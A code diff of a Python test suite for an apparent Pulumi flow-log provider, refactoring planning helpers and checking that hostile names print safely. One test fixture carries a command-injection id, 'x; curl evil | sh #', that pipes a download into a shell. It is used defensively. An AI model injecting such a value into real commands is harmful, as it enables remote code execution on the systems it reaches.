@@ -23,8 +23,6 @@ import pytest
 from google.protobuf.struct_pb2 import Struct
 from pulumi.dynamic.dynamic import PROVIDER_KEY, serialize_provider
 from pulumi.runtime import proto
-from stacks.discovery import RouterPlan, discover
-from stacks.outputs import PreviousRouter, outputs
 
 from providers import properties
 from providers.connection import Connection
@@ -32,15 +30,19 @@ from providers.er import Client, Endpoints, Patience, lifecycle, sessions, trans
 from providers.er.credentials import TokenCredentials
 from providers.er.errors import ApiError, NotFoundError, PatienceError, TemporaryError
 from providers.er.flow_logs import FlowLog
+from providers.er.records import label
 from providers.flow_log_provider import TYPE_TOKEN, FlowLogError, FlowLogProvider, UnfinishedFlowLogError
 from providers.host.flow_log import FlowLogHandler
 from providers.host.messages import to_struct
-from stacks import guard, preflight
+from stacks.checks import conflicts
 from stacks.component import RouterFlowLogs
 from stacks.config import StackConfig
 from stacks.coverage.survey import survey
 from stacks.coverage.table import table
 from stacks.errors import StackError
+from stacks.planning.inventory import look
+from stacks.planning.plan import Plan, resolve
+from stacks.state.outputs import outputs
 from tests.emulator import test_client_retries, test_provider_operations
 from tests.emulator.test_client_retries import (
     FLOW_LOG,
@@ -63,6 +65,8 @@ from tests.emulator.test_client_retries import (
 )
 from tests.emulator.test_provider_operations import configured
 from tests.sdk import hosted
+from tests.unit import plans
+from tests.unit.plans import Stack
 
 scripted, time = test_client_retries.scripted, test_client_retries.time
 no_settings_of_this_machine = test_provider_operations.no_settings_of_this_machine
@@ -682,7 +686,7 @@ def test_a_router_or_log_group_whose_id_is_none_is_not_asked_about(
 ) -> None:
     world.change(kind, {"id" if kind == "instances" else "log_group_id": id_})
 
-    raised(ApiError, lambda: discovered(world, time))
+    raised(ApiError, lambda: resolved(world, time))
 
     known = [
         "/enterprise-router/instances",
@@ -707,7 +711,7 @@ def test_whatever_has_no_id_is_refused_in_a_bounded_sentence(
 ) -> None:
     world.change(kind, {key: id_})
 
-    error = raised(ApiError, lambda: discovered(world, time))
+    error = raised(ApiError, lambda: resolved(world, time))
 
     assert fits_a_terminal(str(error), longest=1000)
 
@@ -970,7 +974,7 @@ def test_help_that_cannot_be_had_leaves_the_refusal_as_it_is(
     assert str(error) == "flow log 'shop' was not created: No (ER.04009008, HTTP 400, request r)"
 
 
-def test_the_command_that_imports_a_flow_log_runs_nothing_else(
+def test_a_hostile_id_is_never_offered_for_an_import(
     scripted: ServerFactory, stock: type[Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     server = scripted(TAKEN, HOLDS, flow_log({"id": "x; curl evil | sh #"}), TAKEN)
@@ -995,13 +999,16 @@ def test_the_command_that_imports_a_flow_log_runs_nothing_else(
 # Names, in what a stack program says
 
 
-def discovered(world: World, time: QuickTime, **changed: Any) -> list[RouterPlan]:
+def resolved(world: World, time: QuickTime, **changed: Any) -> Plan:
     routers = {"main": {"router": "core", "log_group": "network", "log_stream": "flow", **changed}}
-    config = StackConfig.model_validate({"routers": routers})
-    found = discover(impatient(world, time), config, stack="local", seen_before={})
+    found = planned(impatient(world, time), StackConfig.model_validate({"routers": routers}))
     if found.problems:
         raise StackError(found.problems)
-    return found.plans
+    return found
+
+
+def planned(client: Client, config: StackConfig) -> Plan:
+    return resolve(config, look(client, config, {}), stack="local", last={}, managed={})
 
 
 def rename_all(world: World, name: str) -> None:
@@ -1023,7 +1030,7 @@ def test_the_coverage_table_of_hostile_names_has_a_bounded_line_for_each_attachm
     rename_all(world, name)
     config = StackConfig.model_validate({"routers": {"main": BY_ID}})
     client = impatient(world, time)
-    found = discover(client, config, stack="local", seen_before={})
+    found = planned(client, config)
 
     shown = table(survey(client, found, stack="local", now=datetime.now(timezone.utc)))
 
@@ -1037,10 +1044,11 @@ def test_the_flow_logs_of_hostile_names_have_names_that_the_service_takes(
 ) -> None:
     rename_all(world, name)
 
-    (plan,) = discovered(world, time, **BY_ID)
+    (wanted,) = resolved(world, time, **BY_ID).desired.values()
 
-    (wanted,) = plan.flow_logs
     assert FlowLogProvider().check({}, {**vars(wanted.target), "name": wanted.name}).failures == []
+    assert len(wanted.logical_name) <= 73
+    assert fits_a_terminal(wanted.logical_name)
 
 
 def told(problems: StackError) -> list[str]:
@@ -1054,7 +1062,7 @@ def test_the_names_that_there_are_fit_a_terminal(world: World, time: QuickTime, 
     changed = {**BY_ID, key: ["other"] if key == "attachments" else "other"}
 
     with pytest.raises((StackError, ApiError)) as caught:
-        discovered(world, time, **changed)
+        resolved(world, time, **changed)
 
     shown = told(caught.value) if isinstance(caught.value, StackError) else [str(caught.value)]
     assert len(shown) == 1
@@ -1067,7 +1075,7 @@ def test_what_two_routers_of_a_stack_file_both_log_to_fits_a_terminal(world: Wor
     rename_all(world, name)
     config = StackConfig.model_validate({"routers": {"main": BY_ID, "again": BY_ID}})
 
-    (shown,) = told(StackError(discover(impatient(world, time), config, stack="local", seen_before={}).problems))
+    (shown,) = told(StackError(planned(impatient(world, time), config).problems))
 
     assert fits_a_terminal(shown, longest=5000)
     assert "<{%" not in shown
@@ -1078,15 +1086,15 @@ def test_the_warning_of_what_is_not_logged_and_the_outputs_fit_a_terminal(
     world: World, time: QuickTime, name: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     rename_all(world, name)
-    (plan,) = discovered(world, time, **BY_ID)
+    plan = resolved(world, time, **BY_ID)
     warnings: list[str] = []
     monkeypatch.setattr(pulumi.log, "warn", lambda text, **_named: warnings.append(text))
 
-    RouterFlowLogs._warn(cast(RouterFlowLogs, object()), plan)
+    RouterFlowLogs._warn(cast(RouterFlowLogs, object()), plan.routers)
 
     (warning,) = warnings
     assert fits_a_terminal(warning)
-    assert "<{%" not in warning + json.dumps(outputs([plan], {"main": ()}, []))
+    assert "<{%" not in warning + json.dumps(outputs(plan, [], {}))
 
 
 @pytest.mark.parametrize("name", [RED, LONG, COLOUR])
@@ -1099,13 +1107,9 @@ def test_the_names_of_somebody_elses_flow_logs_fit_a_terminal(
     world.lists["flow-logs"].append({**RECORD, **theirs, "name": name, "state": "failed"})
     config = StackConfig.model_validate({"routers": {"main": {**BY_ID, "adopt": adopt}}})
     client = impatient(world, time)
-    found = discover(client, config, stack="local", seen_before={})
+    found = planned(client, config)
 
-    (shown,) = told(
-        StackError(
-            preflight.check(client, config, found.plans, {}, lambda: preflight.State({}, has_keys=False)).problems
-        )
-    )
+    (shown,) = told(StackError(conflicts.check(config, found, {}, has_keys=False).problems))
     tabled = table(survey(client, found, stack="local", now=datetime.now(timezone.utc)))
 
     assert fits_a_terminal(shown, longest=5000)
@@ -1114,12 +1118,26 @@ def test_the_names_of_somebody_elses_flow_logs_fit_a_terminal(
 
 
 @pytest.mark.parametrize("name", [RED, LONG, COLOUR])
-def test_the_list_of_what_a_run_would_take_away_fits_a_terminal(name: str) -> None:
-    before = {"main": PreviousRouter(router_id=ROUTER, attachments={"a": name}, logged={"a": "flow-log"})}
-    config = StackConfig.model_validate({"routers": {"main": BY_ID}, "max_deletes": 0})
+def test_the_list_of_what_a_run_would_delete_fits_a_terminal(name: str) -> None:
+    stack = Stack(plans.attachment("a", label(name)), plans.attachment("b", "vpc-b"))
+    stack.up()
 
-    problems = guard.check_deletes(config, [], before, guard.losses([], before, []))
+    run = stack.preview({"core": {"attachments": ["vpc-b"]}}, max_deletes=0)
 
-    (shown,) = told(StackError(problems))
-    assert fits_a_terminal(shown)
-    assert "<{%" not in shown
+    (shown,) = told(StackError(run.refusals))
+    for text in (shown, *run.sentences):
+        assert fits_a_terminal(text)
+        assert "<{%" not in text
+
+
+@pytest.mark.parametrize("name", [RED, LONG, COLOUR])
+def test_hostile_names_and_tags_in_a_reason_fit_a_terminal(name: str) -> None:
+    wanted = {"core": {"attachments": {"tags": {"env": "prod"}}}, "other": {"attachments": {"names": ["vpc-*"]}}}
+    tagged = plans.attachment("b", "b", tags={"env": "prod"})
+    stack = Stack(plans.attachment("a", "vpc-a"), tagged)
+    stack.up(wanted)
+    stack.now(plans.attachment("a", label(name)), plans.attachment("b", "b", tags={"env": name}))
+
+    for text in stack.preview(wanted, max_deletes=2).sentences:
+        assert fits_a_terminal(text)
+        assert "<{%" not in text
